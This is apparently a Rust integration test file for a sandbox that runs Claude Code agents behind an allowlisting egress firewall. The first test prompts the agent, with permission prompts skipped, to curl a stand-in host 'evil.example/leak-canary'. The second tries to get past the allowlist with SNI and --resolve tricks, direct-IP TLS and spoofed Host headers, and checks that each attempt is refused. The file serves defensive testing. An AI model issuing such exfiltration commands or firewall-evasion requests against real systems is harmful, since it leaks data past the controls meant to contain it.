//! The main job: real Claude Code finishes a turn through Envoy, and what it asks for beyond the list is refused.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use clawker_integration::fakenet::record::Record;
use clawker_integration::world::World;

#[test]
fn claude_finishes_a_turn_and_what_it_asks_beyond_the_list_is_shown_as_refused() {
    let world = World::new("claude").unwrap();
    let said = world
        .clawker(&[
            "run",
            "--yes",
            "--agent",
            "dev",
            "-e",
            "ANTHROPIC_API_KEY=x",
            "--",
            "claude",
            "-p",
            "hello",
        ])
        .unwrap();
    assert_eq!(said.code, 0, "{said:?}");
    assert!(said.out.contains("Hello from the fake internet."), "{said:?}");
    let asked = world.rig.saw("api.anthropic.com");
    assert!(asked.iter().any(|record| record.what.starts_with("POST /v1/messages")), "{asked:#?}");

    // Through its own Bash tool it tries to reach more.
    world.must(&["rm", "-f", "dev"]).unwrap();
    let prompt = "RUN: curl -sS --max-time 5 https://evil.example/leak-canary; echo done $?";
    let said = world
        .clawker(&[
            "run",
            "--agent",
            "dev",
            "-e",
            "ANTHROPIC_API_KEY=x",
            "--",
            "claude",
            "-p",
            prompt,
            "--dangerously-skip-permissions",
        ])
        .unwrap();
    assert_eq!(said.code, 0, "{said:?}");
    assert!(said.out.contains("done 6"), "curl could not resolve the name: {said:?}");
    let leaked = world.rig.saw("leak-canary");
    // The prompt itself holds it, on its way to the Messages API and nowhere else.
    let api = |record: &Record| record.destination.starts_with("198.51.100.130:");
    assert!(!leaked.is_empty() && leaked.iter().all(api), "{leaked:#?}");
    let log = world.must(&["firewall", "log", "--denied", "--agent", "dev"]).unwrap();
    assert!(log.contains("evil.example"), "{log}");
}

#[test]
fn listed_names_answer_and_others_do_not_exist() {
    let world = World::new("names").unwrap();
    world.sandbox.write_project_file(&format!(
        "project: demo\nsecurity:\n  extra_ca: [{}]\n  firewall:\n    add_domains: [good.example, .wild.example]\n    \
         rules:\n      - {{dst: allowed.example, proto: http}}\n      - {{dst: git.example, proto: ssh}}\n      \
         - {{dst: 198.51.100.200, proto: tcp, port: 7777}}\n      - {{dst: shut.wild.example, action: deny}}\n",
        world.rig.ca_pem_path().display()
    )).unwrap();
    let refused = world.clawker(&["run", "--agent", "dev", "--detach", "--", "sleep", "3600"]).unwrap();
    assert_eq!(refused.code, 125, "{refused:?}");
    assert!(
        refused.err.contains("+ allow tls good.example port 443") && refused.err.contains("--yes"),
        "{refused:?}"
    );
    world.agent("dev").unwrap();

    let ask = |name: &str, kind: &str| {
        let said = world.probe("dev", &["dns", "198.51.100.10", name, kind]).unwrap();
        if said.code == 0 { said.out } else { said.err }
    };
    for name in [
        "good.example",
        "GOOD.Example",
        "a.b.wild.example",
        "wild.example",
        "allowed.example",
        "api.anthropic.com",
    ] {
        assert!(ask(name, "A").starts_with("198.18.0."), "{name}: {}", ask(name, "A"));
    }
    for kind in ["AAAA", "TXT", "HTTPS"] {
        assert_eq!(ask("good.example", kind), "NODATA", "{kind}");
    }
    for name in ["evil.example", "x.good.example", "host.docker.internal"] {
        assert_eq!(ask(name, "A"), "NXDOMAIN", "{name}");
    }
    assert_eq!(ask("example", "A"), "NODATA");

    let curl = |args: &str| world.sh("dev", &format!("curl -sS --max-time 5 {args}")).unwrap();
    assert!(curl("https://good.example/x").out.contains("host: good.example"));
    assert!(curl("https://a.b.wild.example/x").out.contains("host: a.b.wild.example"));
    assert!(curl("http://allowed.example/x").out.contains("host: allowed.example"));
    // The name is judged, not the address; the address that was chosen is never dialled.
    assert!(
        curl("--resolve good.example:443:198.51.100.133 https://good.example/chosen")
            .out
            .contains("host: good.example")
    );
    for refused in [
        "--resolve evil.example:443:198.51.100.133 https://evil.example/canary-sni",
        "--resolve shut.wild.example:443:198.51.100.133 https://shut.wild.example/canary-deny",
        "-k https://198.51.100.133/canary-ip",
    ] {
        let said = curl(refused);
        assert!(said.code == 35 || said.code == 56, "{refused}: {said:?}");
    }
    let denied = curl("-H 'Host: evil.example' http://allowed.example/canary-host");
    assert!(
        denied.out.contains("refused by the firewall") && denied.out.contains("evil.example"),
        "{denied:?}"
    );
    assert!(
        curl("-H 'Host: allowed.example:22' http://allowed.example/canary-port")
            .out
            .contains("refused by the firewall")
    );
    let banner = world.probe("dev", &["tcp", "git.example:22"]).unwrap();
    assert!(banner.out.starts_with("SSH-"), "{banner:?}");
    assert_eq!(world.probe("dev", &["tcp", "198.51.100.200:7777", "listed"]).unwrap().code, 0);
    assert!(world.probe("dev", &["tcp", "198.51.100.200:7778", "canary-next"]).unwrap().code != 0);
    let leaked = world.rig.saw("canary-");
    assert!(leaked.is_empty(), "{leaked:#?}");

    // One more, at once, and back.
    assert_eq!(ask("later.example", "A"), "NXDOMAIN");
    // The hint is a command, and does what it says.
    let why = world.clawker(&["firewall", "why", "https://later.example/x", "--json"]).unwrap();
    assert_eq!(why.code, 1, "{why:?}");
    let why: serde_json::Value = serde_json::from_str(&why.out).unwrap();
    let hint: Vec<&str> = why["change"].as_str().unwrap().split(' ').skip(1).collect();
    world.must(&hint).unwrap();
    assert_eq!(world.clawker(&["firewall", "why", "later.example"]).unwrap().code, 0);
    assert!(curl("https://later.example/x").out.contains("host: later.example"));
    world.must(&["firewall", "remove", "later.example"]).unwrap();
    assert_eq!(ask("later.example", "A"), "NXDOMAIN");
    assert!(curl("--resolve later.example:443:198.18.9.9 https://later.example/canary-removed").code != 0);
    assert!(world.rig.saw("canary-removed").is_empty());
    let queries = world.rig.saw("evil.example");
    assert!(queries.is_empty(), "an agent's question left: {queries:#?}");
}
